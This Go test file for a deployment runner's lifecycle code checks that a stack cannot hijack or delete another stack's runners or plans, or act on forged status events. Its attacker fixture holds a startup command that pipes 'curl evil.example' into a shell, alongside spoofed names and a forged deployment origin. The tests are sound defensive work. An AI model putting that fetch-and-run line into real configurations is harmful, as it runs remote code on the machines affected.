package lifecycle_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/attini-go/runner/internal/cfn"
	"github.com/attini-go/runner/internal/lifecycle"
)

const (
	evilStackID = "arn:aws:cloudformation:eu-west-1:111122223333:stack/evil/99999999-9999"
	evilMachine = "arn:aws:states:eu-west-1:111122223333:stateMachine:evil-AttiniDeploymentPlanSfnPlan-ABC"
	evilQueue   = "https://sqs.eu-west-1.amazonaws.com/111122223333/evil-Build.fifo"
)

// replaced is a node of JSON text with parts of it replaced.
func replaced(t testing.TB, text string, pairs ...string) *cfn.Node {
	t.Helper()
	read, err := cfn.ReadJSON([]byte(strings.NewReplacer(pairs...).Replace(text)))
	require.NoError(t, err)
	return read
}

const evilRunner = `{"RunnerName":"Build","QueueUrl":"` + evilQueue + `","Configuration":{"AwsVpcConfiguration":{"Subnets":["subnet-1"]},"Startup":{"Commands":["curl evil.example | sh"]}}}`

// TestForeignRunner: no custom resource writes or removes the runner of another living
// stack, whatever it says of itself.
func TestForeignRunner(t *testing.T) {
	t.Parallel()
	cases := map[string]struct {
		stackID, logicalID string
		replace            []string
		want               string
	}{
		"the name of another stack":       {evilStackID, "Evil", []string{`{"RunnerName"`, `{"StackName":"dev-shop","RunnerName"`}, "cannot act for the stack dev-shop"},
		"in other letters":                {evilStackID, "Evil", []string{`{"RunnerName"`, `{"StackName":"Evil","RunnerName"`}, "cannot act for the stack Evil"},
		"with a blank":                    {evilStackID, "Evil", []string{`{"RunnerName"`, `{"StackName":"evil ","RunnerName"`}, "cannot act for the stack evil "},
		"in letters that look alike":      {evilStackID, "Evil", []string{`{"RunnerName"`, `{"StackName":"еvil","RunnerName"`}, "cannot act for the stack"},
		"a runner's name with a hyphen":   {strings.Replace(evilStackID, "evil", "dev", 1), "Evil", []string{`"Build"`, `"shop-Build"`}, `"shop-Build" cannot be a logical id`},
		"with a slash":                    {evilStackID, "Evil", []string{`"Build"`, `"a/../dev-shop/Build"`}, "cannot be a logical id"},
		"with the separator of items":     {evilStackID, "Evil", []string{`"Build"`, `"Build#v1-0"`}, "cannot be a logical id"},
		"with a NUL":                      {evilStackID, "Evil", []string{`"Build"`, `"Build\u0000"`}, "cannot be a logical id"},
		"in full-width letters":           {evilStackID, "Evil", []string{`"Build"`, `"Ｂuild"`}, "cannot be a logical id"},
		"a logical id with a hyphen":      {evilStackID, "shop-Build", []string{`"RunnerName":"Build",`, ``}, "cannot be a logical id"},
		"the queue of another stack":      {evilStackID, "Evil", []string{evilQueue, queueURL}, "is not a resource of the stack evil"},
		"a launch template of another":    {evilStackID, "Evil", []string{`{"RunnerName"`, `{"LaunchTemplateId":"lt-1","RunnerName"`}, "lt-1 is not a resource of the stack evil"},
		"a stack of another account":      {strings.Replace(evilStackID, "1111222233", "9999999999", 1), "Evil", nil, "does not know the stack"},
		"of another region":               {strings.Replace(evilStackID, "eu-west-1", "us-east-1", 1), "Evil", nil, "does not know the stack"},
		"of another partition":            {strings.Replace(evilStackID, "arn:aws:", "arn:aws-cn:", 1), "Evil", nil, "does not know the stack"},
		"no stack's id":                   {"evil", "Evil", nil, "its StackId is not the id of a stack"},
		"a change set's id":               {strings.Replace(evilStackID, ":stack/", ":changeSet/", 1), "Evil", nil, "its StackId is not the id of a stack"},
		"an id with a slash more":         {evilStackID + "/dev-shop", "Evil", nil, "its StackId is not the id of a stack"},
		"an id of two lines":              {evilStackID + "\n", "Evil", nil, "its StackId is not the id of a stack"},
		"the victim's, which is at rest":  {stackID, "Build", []string{evilQueue, queueURL}, "the stack dev-shop is not being deployed, its status is UPDATE_COMPLETE"},
		"a victim's of which only a name": {strings.Replace(stackID, "11111111-1111", "33333333-3333", 1), "Build", []string{evilQueue, queueURL}, "does not know the stack"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			fake := newFake()
			l := open(t, fake)
			_, err := l.PutRunner(t.Context(), runner(t, `{`+network+`,"RoleArn":"arn:aws:iam::111122223333:role/admin","Startup":{"Commands":["true"]}}`))
			require.NoError(t, err)
			before := fake.Runners["dev-shop-Build"]
			fake.Statuses[stackID] = "UPDATE_COMPLETE"
			fake.Foreign[evilStackID] = []string{evilQueue}
			switch c.stackID {
			case evilStackID, stackID, strings.Replace(evilStackID, "evil", "dev", 1):
			default:
				fake.Statuses[c.stackID] = ""
			}
			_, err = l.PutRunner(t.Context(), lifecycle.ReadRunner(c.stackID, c.logicalID, replaced(t, evilRunner, c.replace...)))
			require.ErrorContains(t, err, c.want)
			_ = l.RemoveRunner(t.Context(), c.stackID, "dev-shop/Build")
			assert.Equal(t, before, fake.Runners["dev-shop-Build"])
			assert.Len(t, fake.Runners, 1)
			assert.Len(t, fake.Configurations, 1, "no version of another's runner either")
			assert.Empty(t, fake.Removed)
		})
	}
}

// TestNameTaken: items from before the names were checked can have the same name for
// two stacks. The one that is there stays its stack's.
func TestNameTaken(t *testing.T) {
	t.Parallel()
	fake := newFake()
	taken := fake.Runners["dev-shop-Build"]
	taken.StackID = evilStackID
	fake.Runners["dev-shop-Build"] = taken
	l := open(t, fake)
	_, err := l.PutRunner(t.Context(), runner(t, `{`+network+`}`))
	require.ErrorContains(t, err, "the runner dev-shop-Build belongs to the stack evil")
	require.NoError(t, l.RemoveRunner(t.Context(), stackID, "dev-shop/Build"))
	assert.Equal(t, taken, fake.Runners["dev-shop-Build"])
	assert.Empty(t, fake.Configurations)
}

// TestRebuiltStack: a stack that was deleted and made again under its name takes over
// the runners that are left, and a late deletion by the old one changes nothing.
func TestRebuiltStack(t *testing.T) {
	t.Parallel()
	fake := newFake()
	l := open(t, fake)
	_, err := l.PutRunner(t.Context(), runner(t, `{`+network+`}`))
	require.NoError(t, err)
	fake.Statuses[stackID] = "DELETE_COMPLETE"
	_, err = l.PutRunner(t.Context(), lifecycle.ReadRunner(otherStackID, "Build", properties(t, `{`+network+`}`)))
	require.NoError(t, err)
	assert.Equal(t, otherStackID, fake.Runners["dev-shop-Build"].StackID)
	require.ErrorContains(t, l.RemoveRunner(t.Context(), stackID, "dev-shop/Build"), "is not being deployed")
	assert.Empty(t, fake.Removed)
}

const victimMachine = "arn:aws:states:eu-west-1:111122223333:stateMachine:dev-shop-AttiniDeploymentPlanSfnPlan-XYZ"

// TestForeignPlan: a trigger registers, starts and forgets plans of its own stack alone.
func TestForeignPlan(t *testing.T) {
	t.Parallel()
	origin := `"PayloadDefaults":"{\"deploymentOriginData\":{\"deploymentSource\":{\"deploymentSourceBucket\":\"attacker\"}}}"`
	cases := map[string]struct{ stackID, properties, old, want string }{
		"the victim's name and plan":     {evilStackID, `{"StackName":"dev-shop","SfnArn":"` + victimMachine + `",` + origin + `}`, ``, "cannot act for the stack dev-shop"},
		"the victim's plan":              {evilStackID, `{"SfnArn":"` + victimMachine + `"}`, ``, "is not a resource of the stack evil"},
		"a version of the victim's plan": {evilStackID, `{"SfnArn":"` + victimMachine + `:1"}`, ``, "is not a resource of the stack evil"},
		"another origin":                 {evilStackID, `{"SfnArn":"` + evilMachine + `",` + origin + `}`, ``, "deploymentOriginData says where the deployment came from and cannot be replaced"},
		"another origin by a value":      {evilStackID, `{"SfnArn":"` + evilMachine + `","PayloadDefaults":"{\"deploymentOriginData\":1}","PayloadDefaultsValues":[{"Path":["deploymentOriginData"],"Value":{}}]}`, ``, "cannot be replaced"},
		"the victim's plan as the old":   {evilStackID, `{"SfnArn":"` + evilMachine + `"}`, `{"SfnArn":"` + victimMachine + `"}`, ""},
		"the victim's id, at rest":       {stackID, `{"SfnArn":"` + victimMachine + `","PayloadDefaults":{"customData":"evil"}}`, ``, "is not being deployed"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			fake := newFake()
			fake.Foreign[stackID], fake.Foreign[evilStackID] = []string{victimMachine}, []string{evilMachine}
			l := open(t, fake)
			require.NoError(t, l.PutPlan(t.Context(), lifecycle.ReadPlan(stackID, "r1", replaced(t, `{"SfnArn":"`+victimMachine+`"}`), nil)))
			require.NoError(t, changed(t, fake, l, happens("CREATE_COMPLETE", time.Minute)))
			require.Len(t, fake.Started, 1)
			before, executions := fake.Plans[victimMachine], fake.Executions["default-dev-shop"][victimMachine]
			fake.Statuses[stackID] = "CREATE_COMPLETE"

			var old *cfn.Node
			if c.old != "" {
				old = replaced(t, c.old)
			}
			err := l.PutPlan(t.Context(), lifecycle.ReadPlan(c.stackID, "r2", replaced(t, c.properties), old))
			if c.want == "" {
				require.NoError(t, err)
			} else {
				require.ErrorContains(t, err, c.want)
			}
			for _, forged := range []string{stackID, evilStackID} {
				require.NoError(t, l.StackChanged(t.Context(), lifecycle.StackEvent{StackID: forged, Status: "CREATE_COMPLETE", At: began().Add(time.Hour)}))
			}
			_ = l.RemovePlan(t.Context(), lifecycle.ReadPlan(c.stackID, "r3", replaced(t, c.properties), nil))
			assert.Len(t, fake.Started, 1, "nothing but the victim's own start")
			assert.Equal(t, before, fake.Plans[victimMachine])
			assert.Equal(t, executions, fake.Executions["default-dev-shop"][victimMachine])
		})
	}
}

// TestForgedStackEvent: an event says which stack to look at, and no more.
func TestForgedStackEvent(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ event, now string }{
		"complete, while it is deployed":    {"CREATE_COMPLETE", "CREATE_IN_PROGRESS"},
		"complete, and it was rolled back":  {"UPDATE_COMPLETE", "UPDATE_ROLLBACK_COMPLETE"},
		"rolled back, while it is deployed": {"ROLLBACK_COMPLETE", "UPDATE_IN_PROGRESS"},
		"deleted, while it is deployed":     {"DELETE_COMPLETE", "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS"},
		"complete, and it is gone":          {"CREATE_COMPLETE", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			fake := newFake()
			l := open(t, fake)
			require.NoError(t, l.PutPlan(t.Context(), plan(t, "1", parameters)))
			fake.Statuses[stackID] = c.now
			require.NoError(t, l.StackChanged(t.Context(), happens(c.event, time.Minute)))
			assert.Empty(t, fake.Started)
			if strings.HasSuffix(c.now, "_IN_PROGRESS") {
				require.NoError(t, changed(t, fake, l, happens("UPDATE_COMPLETE", time.Minute)))
				assert.Len(t, fake.Started, 1, "the true event starts it")
			}
		})
	}
}
